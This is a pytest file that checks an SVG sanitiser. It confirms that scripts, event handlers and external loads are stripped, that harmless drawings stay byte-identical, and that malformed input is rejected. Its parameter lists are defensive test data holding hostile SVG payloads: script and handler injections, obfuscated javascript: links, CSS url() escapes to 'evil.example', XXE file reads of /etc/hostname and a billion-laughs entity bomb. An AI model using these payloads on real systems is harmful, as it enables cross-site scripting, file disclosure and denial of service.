"""What a drawing may do on a card: be seen, and nothing else."""

# ruff: noqa: E501 - drawings in one line each

from __future__ import annotations

import time

import pytest

from exporter.pictures import on_screen
from tests.packs import picture

SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9"><circle r="3"/>{}</svg>'
XHTML = 'xmlns="http://www.w3.org/1999/xhtml"'
BITMAP = "data:image/png;base64,iVBORw0KGgo="


@pytest.mark.parametrize(
    "inner",
    [
        "<script>steal()</script>",
        "<script xlink:href='http://evil.example/x.js'/>",
        f"<script {XHTML}>steal()</script>",
        '<rect onload="steal()" width="1"/>',
        '<rect ONCLICK="steal()" width="1"/>',
        '<a href="java&#10;script:steal()"><text>x</text></a>',
        '<a xlink:href=" javascript:steal()"><text>x</text></a>',
        '<image href="http://evil.example/x.png"/>',
        '<image xlink:href="//evil.example/x.png"/>',
        '<image href="data:image/svg+xml,&lt;svg onload=steal()/>"/>',
        '<use href="http://evil.example/x.svg#x"/>',
        '<feImage href="http://evil.example/x.png"/>',
        f'<foreignObject><body {XHTML}><img src="http://evil.example/x.png" onerror="steal()"/>kept</body></foreignObject>',
        f'<foreignObject><iframe {XHTML} src="http://evil.example/"/></foreignObject>',
        f'<foreignObject><object {XHTML} data="http://evil.example/"/></foreignObject>',
        f'<foreignObject><div {XHTML} style="background: url(http://evil.example/x)">kept</div></foreignObject>',
        "<style>@import 'http://evil.example/x.css';</style>",
        "<style>@im\\port url(http://evil.example/x.css);</style>",
        "<style>rect { fill: url(http://evil.example/x) }</style>",
        "<style>rect { fill: \\75rl(http://evil.example/x) }</style>",
        "<style>rect { background: image-set('http://evil.example/x' 1x) }</style>",
        "<style>@font-face { font-family: x; src: url(http://evil.example/x.woff) }</style>",
        '<rect style="fill: url(http://evil.example/x)"/>',
        '<rect fill="url(http://evil.example/x#y)"/>',
        '<rect><set attributeName="onclick" to="steal()"/></rect>',
        '<a><animate attributeName="xlink:href" values="javascript:steal()"/></a>',
        '<handler type="application/ecmascript">steal()</handler>',
    ],
)
def test_what_would_run_or_load_is_left_out(inner: str) -> None:
    """Scripts, handlers and addresses outside of the drawing are gone, and the rest of it is there."""
    shown = on_screen(SVG.format(inner).encode())
    assert shown.cleaned
    for word in (b"steal", b"evil"):
        assert word not in shown.content, shown.content
    assert b"circle" in shown.content
    assert (b"kept" in shown.content) == ("kept" in inner)
    assert not on_screen(shown.content).cleaned


def test_style_sheets_of_a_whole_drawing_are_left_out() -> None:
    """What stands before the drawing can load, too."""
    before = b'<?xml version="1.0"?><?xml-stylesheet href="http://evil.example/x.css"?>'
    shown = on_screen(before + SVG.format("").encode())
    assert shown.cleaned
    assert b"evil" not in shown.content


@pytest.mark.parametrize(
    "inner",
    [
        f'<defs><g id="part"/></defs><use href="#part"/><use xlink:href="#part"/><image href="{BITMAP}"/>',
        "<style>.a > b { fill: url(#g) } @media print { rect { fill: red } }</style>",
        "<style>@font-face { font-family: x; src: url(data:font/woff2;base64,AAAA) }</style>",
        '<a href="https://example.com/"><text>a link &amp; more</text></a>',
        f'<switch><foreignObject><div {XHTML} style="color: red">text</div></foreignObject><text>text</text></switch>',
        "<rect><animate attributeName='x' values='0;9' dur='1s'/></rect>",
        '<text data-source="imported">an image of the url</text>',
    ],
)
def test_what_is_harmless_stays_to_the_byte(inner: str) -> None:
    """Parts of its own, pictures and fonts within it, links, HTML text and movement change nothing."""
    content = SVG.format(inner).encode()
    assert on_screen(content) == (content, False)


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        (b"", "empty"),
        (b"<!doctype html><title>Sign in</title>", "no picture"),
        (b"\x89PNG\r\n\x1a\nnothing", "no picture"),
        (b"<svg><rect></svg>", "broken"),
        (b"<svg>" + b"<g>" * 5000 + b"</g>" * 5000 + b"</svg>", "deep"),
        (b'<svg><!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/hostname">]>&a;</svg>', "broken"),
    ],
)
def test_what_is_no_picture_is_refused(content: bytes, reason: str) -> None:
    """The reason says why."""
    with pytest.raises(ValueError, match=reason):
        on_screen(content)


def test_entities_neither_read_files_nor_grow_without_end() -> None:
    """Those of old drawing programs are fine; laughing ones and files are refused at once."""
    plain = b'<!DOCTYPE svg [<!ENTITY ns "http://www.w3.org/2000/svg">]><svg xmlns="&ns;"/>'
    assert on_screen(plain) == (plain, False)
    laugh = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12))
    begun = time.perf_counter()
    for bad in (
        f'<!DOCTYPE svg [<!ENTITY a0 "ha">{laugh}]><svg>&a11;</svg>',
        '<!DOCTYPE svg [<!ENTITY a SYSTEM "/etc/hostname">]><svg>&a;</svg>',
    ):
        with pytest.raises(ValueError, match="broken"):
            on_screen(bad.encode())
    assert time.perf_counter() - begun < 5


def test_raster_pictures_stay_to_the_byte() -> None:
    """They run nothing, of whatever size they are."""
    content = picture(3, 2)
    assert on_screen(content) == (content, False)
